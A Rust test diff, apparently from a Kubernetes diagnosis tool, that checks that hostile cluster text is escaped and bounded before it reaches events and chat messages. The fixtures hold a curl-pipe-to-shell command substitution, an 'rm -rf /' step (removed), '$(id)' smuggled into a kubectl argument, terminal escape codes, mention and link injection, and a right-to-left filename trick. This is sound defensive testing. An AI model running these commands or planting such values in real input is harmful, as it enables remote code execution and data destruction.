@@ -210,7 +210,10 @@ mod tests {
     fn cluster_text_reaches_the_event_and_the_chat_escaped_and_bounded() {
         let hostile =
             "user x$(curl -s h/p|sh)\n\u{1b}[2J<!channel> <https://evil|click> & \u{202e}gnp.exe";
-        let v = verdict(&hostile.repeat(200), "kubectl auth can-i\nrm -rf / <@U123>");
+        let v = verdict(
+            &hostile.repeat(200),
+            "kubectl auth can-i --as x$(id) <@U123>\u{1b}[31m\u{85}\nsecond line",
+        );
         let ev = event_message(&v);
         assert!(ev.len() <= EVENT_MESSAGE_MAX_BYTES, "{}", ev.len());
         assert!(ev.starts_with("authorization (93%): user x$(curl"), "{ev}");
@@ -226,7 +229,11 @@ mod tests {
         // One line break, the message's own, before "Do:".
         assert_eq!(chat.matches('\n').count(), 1, "{chat}");
         let (_, todo) = chat.split_once('\n').unwrap();
-        assert_eq!(todo, "Do: kubectl auth can-i\\nrm -rf / &lt;@U123&gt;");
+        // The first line of the first step only, escaped.
+        assert_eq!(
+            todo,
+            "Do: kubectl auth can-i --as x$(id) &lt;@U123&gt;\\u{1b}[31m\\u{85}"
+        );
         assert!(
             !chat.contains("<!channel>") && !chat.contains("<https://"),
             "{chat}"
